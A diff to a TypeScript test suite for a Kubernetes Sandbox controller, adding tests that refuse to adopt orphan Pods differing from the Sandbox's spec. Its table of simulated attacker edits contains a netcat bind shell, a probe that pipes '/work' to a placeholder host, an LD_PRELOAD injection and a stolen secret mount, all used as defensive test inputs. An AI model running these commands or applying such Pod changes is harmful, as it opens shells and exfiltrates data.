@@ -2,6 +2,7 @@ import { NOW, condition, foreignRef, observed, pod, pvc, sandbox, service, vct }
 import { SandboxAnnotations, SandboxLabels } from '../../../../src/api/labels';
 import { NameHash } from '../../../../src/api/name-hash';
 import { decide, invalidConfiguration, type Action, type Plan } from '../../../src/controllers/sandbox/decide';
+import { buildPod } from '../../../src/controllers/sandbox/desired';
 import { type Condition, type Pod, type PodSpec, type Sandbox, type Service } from '../../../src/model';
 
 const POD_NAME = { [SandboxAnnotations.POD_NAME]: 'my-sandbox' };
@@ -614,9 +615,10 @@ describe('decide: adopting an unowned Pod that carries our hash', () => {
     expect(plan.event?.reason).toBe('PodAdoptionRefused');
   });
 
-  test('a Pod that keeps the rules with explicit safe values is adopted', () => {
-    const safe = orphan({
+  test('a Pod that keeps the rules with explicit safe values, and is the Pod the Sandbox describes, is adopted', () => {
+    const spec: Partial<PodSpec> = {
       hostNetwork: false,
+      automountServiceAccountToken: false,
       securityContext: { runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' }, appArmorProfile: { type: 'Localhost', localhostProfile: 'p' }, seLinuxOptions: { type: 'container_t', level: 's0' }, sysctls: [{ name: 'net.ipv4.tcp_syncookies', value: '1' }] },
       volumes: [{ name: 'tmp', emptyDir: {} }, { name: 'cm', configMap: { name: 'c' } }],
       containers: [main({
@@ -624,8 +626,8 @@ describe('decide: adopting an unowned Pod that carries our hash', () => {
         securityContext: { privileged: false, allowPrivilegeEscalation: false, procMount: 'Default', capabilities: { drop: ['ALL'], add: ['NET_BIND_SERVICE', 'CAP_CHOWN'] } },
         livenessProbe: { httpGet: { port: 80, path: '/' } },
       })],
-    }, { [APPARMOR]: 'runtime/default' });
-    const plan = decide(observed(running(), { pods: [safe] }));
+    };
+    const plan = decide(observed(running({ spec: { podTemplate: { spec: spec as PodSpec } } }), { pods: [orphan(spec, { [APPARMOR]: 'runtime/default' })] }));
     expect(summary(plan.actions)).toEqual(['patch pod my-sandbox']);
     expect(plan.problem).toBeUndefined();
   });
@@ -635,5 +637,130 @@ describe('decide: adopting an unowned Pod that carries our hash', () => {
     const plan = decide(observed(sandbox({ annotations: { [SandboxAnnotations.POD_NAME]: 'victim' } }), { pods: [other] }));
     expect(plan.actions.filter((a) => a.op === 'patch' && a.kind === 'pod')).toEqual([]);
     expect(plan.problem?.message).toContain('Pod "victim" exists and no controller owns it, and it does not carry this Sandbox\'s label agents.x-k8s.io/sandbox-name-hash=374de8f5');
+  });
+});
+
+describe('decide: an unowned Pod with our hash is adopted only when it is the Pod this Sandbox describes', () => {
+  const TEMPLATE: PodSpec = {
+    serviceAccountName: 'runner',
+    securityContext: { runAsNonRoot: true, runAsUser: 1000 },
+    initContainers: [{ name: 'setup', image: 'busybox:1', command: ['sh', '-c', 'cp -r /seed /work'], volumeMounts: [{ name: 'work', mountPath: '/work' }] }],
+    containers: [{
+      name: 'main',
+      image: 'python:3.12-slim',
+      command: ['python', '-m', 'agent'],
+      args: ['--serve'],
+      workingDir: '/work',
+      env: [{ name: 'MODE', value: 'agent' }, { name: 'POD', valueFrom: { fieldRef: { fieldPath: 'metadata.name' } } }],
+      envFrom: [{ configMapRef: { name: 'settings' } }],
+      volumeMounts: [{ name: 'work', mountPath: '/work', readOnly: false }, { name: 'cfg', mountPath: '/etc/agent' }],
+      securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
+      readinessProbe: { httpGet: { path: '/healthz', port: 8888 } },
+    }],
+    volumes: [{ name: 'work', emptyDir: {} }, { name: 'cfg', configMap: { name: 'agent' } }],
+  };
+  const victim = (spec: PodSpec = TEMPLATE) => running({ spec: { podTemplate: { spec: structuredClone(spec) } } });
+  /** The Pod the controller builds for `sb`, as the API server serves it: every default filled in. */
+  const served = (sb: Sandbox): PodSpec => {
+    const spec = structuredClone(buildPod(sb).spec!) as any;
+    const container = (c: any) => ({
+      ...c,
+      terminationMessagePath: '/dev/termination-log',
+      terminationMessagePolicy: 'File',
+      imagePullPolicy: 'IfNotPresent',
+      resources: {},
+      ...(c.env ? { env: c.env.map((e: any) => (e.valueFrom?.fieldRef ? { ...e, valueFrom: { fieldRef: { apiVersion: 'v1', ...e.valueFrom.fieldRef } } } : e)) } : {}),
+      ...(c.volumeMounts ? { volumeMounts: c.volumeMounts.map(({ readOnly, ...m }: any) => (readOnly ? { ...m, readOnly } : m)) } : {}),
+      ...(c.readinessProbe ? { readinessProbe: { ...c.readinessProbe, httpGet: { scheme: 'HTTP', ...c.readinessProbe.httpGet }, timeoutSeconds: 1, periodSeconds: 10, successThreshold: 1, failureThreshold: 3 } } : {}),
+    });
+    return {
+      ...spec,
+      containers: spec.containers.map(container),
+      ...(spec.initContainers ? { initContainers: spec.initContainers.map(container) } : {}),
+      volumes: (spec.volumes ?? []).map((v: any) => (v.configMap ? { ...v, configMap: { defaultMode: 420, ...v.configMap } } : v)),
+      serviceAccountName: spec.serviceAccountName ?? 'default',
+      serviceAccount: spec.serviceAccountName ?? 'default',
+      securityContext: spec.securityContext ?? {},
+      dnsPolicy: 'ClusterFirst',
+      restartPolicy: 'Always',
+      schedulerName: 'default-scheduler',
+      terminationGracePeriodSeconds: 30,
+      enableServiceLinks: true,
+      preemptionPolicy: 'PreemptLowerPriority',
+      priority: 0,
+      tolerations: [],
+      nodeName: 'kwok-node-0',
+    };
+  };
+  const orphanWith = (spec: PodSpec): Pod => ({ ...pod({ owner: null }), spec });
+  const decideOn = (sb: Sandbox, spec: PodSpec) => decide(observed(sb, { pods: [orphanWith(spec)] }));
+  const edit = (change: (spec: any) => void) => (sb: Sandbox) => {
+    const spec = served(sb) as any;
+    change(spec);
+    return spec as PodSpec;
+  };
+
+  // [what, the attacker's change to the served Pod, the field the refusal names]
+  const DIFFERING: Array<[string, (sb: Sandbox) => PodSpec, string]> = [
+    ['another image', edit((s) => { s.containers[0].image = 'attacker/agent:latest'; }), 'spec.containers[0].image (container "main")'],
+    ['another command', edit((s) => { s.containers[0].command = ['sh', '-c', 'nc -l 8888 -e sh']; }), 'spec.containers[0].command (container "main")'],
+    ['other args', edit((s) => { s.containers[0].args = ['--serve', '--debug']; }), 'spec.containers[0].args (container "main")'],
+    ['another working directory', edit((s) => { s.containers[0].workingDir = '/tmp'; }), 'spec.containers[0].workingDir (container "main")'],
+    ['an extra env var', edit((s) => { s.containers[0].env.push({ name: 'LD_PRELOAD', value: '/tmp/x.so' }); }), 'spec.containers[0].env (container "main")'],
+    ['another envFrom', edit((s) => { s.containers[0].envFrom = [{ secretRef: { name: 'stolen' } }]; }), 'spec.containers[0].envFrom (container "main")'],
+    ['a mount moved', edit((s) => { s.containers[0].volumeMounts[1].mountPath = '/etc'; }), 'spec.containers[0].volumeMounts (container "main")'],
+    ['a read-only mount made writable', (sb) => {
+      const spec = served(victim({ ...TEMPLATE, containers: [{ ...TEMPLATE.containers[0], volumeMounts: [{ name: 'cfg', mountPath: '/etc/agent', readOnly: true }] }] })) as any;
+      spec.containers[0].volumeMounts[0].readOnly = false;
+      void sb;
+      return spec;
+    }, 'spec.containers[0].volumeMounts (container "main")'],
+    ['a postStart hook', edit((s) => { s.containers[0].lifecycle = { postStart: { exec: { command: ['sh', '-c', 'watch-and-send &'] } } }; }), 'spec.containers[0].lifecycle (container "main")'],
+    ['a probe that runs a command', edit((s) => { s.containers[0].livenessProbe = { exec: { command: ['sh', '-c', 'tar c /work | nc x 1'] } }; }), 'spec.containers[0].livenessProbe (container "main")'],
+    ['allowPrivilegeEscalation dropped (absent is not false)', edit((s) => { delete s.containers[0].securityContext.allowPrivilegeEscalation; }), 'spec.containers[0].securityContext (container "main")'],
+    ['another init container image', edit((s) => { s.initContainers[0].image = 'attacker/setup'; }), 'spec.initContainers[0].image (container "setup")'],
+    ['a sidecar', edit((s) => { s.containers.push({ name: 'sidecar', image: 'attacker/tap' }); }), 'spec.containers (names ["main","sidecar"], this Sandbox\'s are ["main"])'],
+    ['no init container', edit((s) => { delete s.initContainers; }), 'spec.initContainers (names [], this Sandbox\'s are ["setup"])'],
+    ['another volume source', edit((s) => { s.volumes[1] = { name: 'cfg', configMap: { name: 'attacker', defaultMode: 420 } }; }), 'spec.volumes[1] (volume "cfg")'],
+    ['an extra volume', edit((s) => { s.volumes.push({ name: 'extra', emptyDir: {} }); }), 'spec.volumes (names ["work","cfg","extra"], this Sandbox\'s are ["work","cfg"])'],
+    ['another ServiceAccount', edit((s) => { s.serviceAccountName = 'deployer'; }), 'spec.serviceAccountName'],
+    ['a token', edit((s) => { s.automountServiceAccountToken = true; }), 'spec.automountServiceAccountToken'],
+    ['another Pod security context', edit((s) => { s.securityContext.runAsUser = 0; }), 'spec.securityContext'],
+    ['a runtime class', edit((s) => { s.runtimeClassName = 'runc-unsandboxed'; }), 'spec.runtimeClassName'],
+    ['its own DNS', edit((s) => { s.dnsPolicy = 'None'; s.dnsConfig = { nameservers: ['10.9.9.9'] }; }), 'spec.dnsPolicy'],
+    ['host aliases', edit((s) => { s.hostAliases = [{ ip: '10.9.9.9', hostnames: ['api.example.com'] }]; }), 'spec.hostAliases'],
+  ];
+
+  test.each(DIFFERING)('%s: refused, naming the first differing field; nothing written to the Pod', (_, spec, field) => {
+    const sb = victim();
+    const plan = decideOn(sb, spec(sb));
+    expect(plan.actions).toEqual([]);
+    expect(plan.problem).toMatchObject({ reason: 'ReconcilerError', podStep: true });
+    expect(plan.problem?.message).toContain(`Pod "my-sandbox" exists and no controller owns it, but it is not adopted: it is not the Pod this Sandbox's spec describes (${field} differs)`);
+    expect(plan.event).toEqual({ reason: 'PodAdoptionRefused', note: plan.problem?.message });
+    expect(plan.status.podIPs).toBeUndefined();
+  });
+
+  test('negative control: the Pod the controller built, as the API server serves it with its defaults, is adopted', () => {
+    const sb = victim();
+    const plan = decideOn(sb, served(sb));
+    expect(summary(plan.actions)).toEqual(['patch pod my-sandbox']);
+    expect(plan.problem).toBeUndefined();
+    expect(plan.event).toBeUndefined();
+  });
+
+  test('the token volume the ServiceAccount admission adds is tolerated only when the Sandbox asks for a token', () => {
+    const addToken = (spec: any) => {
+      spec.volumes.push({ name: 'kube-api-access-x7k2p', projected: { defaultMode: 420, sources: [{ serviceAccountToken: { expirationSeconds: 3607, path: 'token' } }] } });
+      for (const c of [...spec.containers, ...spec.initContainers]) {
+        c.volumeMounts.push({ name: 'kube-api-access-x7k2p', mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', readOnly: true });
+      }
+      return spec;
+    };
+    const asks = victim({ ...TEMPLATE, automountServiceAccountToken: true });
+    expect(summary(decideOn(asks, addToken(served(asks))).actions)).toEqual(['patch pod my-sandbox']);
+    // Without the ask (the operator sets automountServiceAccountToken: false), the same volume is a difference.
+    const plain = victim();
+    expect(decideOn(plain, addToken(served(plain))).problem?.message).toContain('(spec.initContainers[0].volumeMounts (container "setup") differs)');
   });
 });
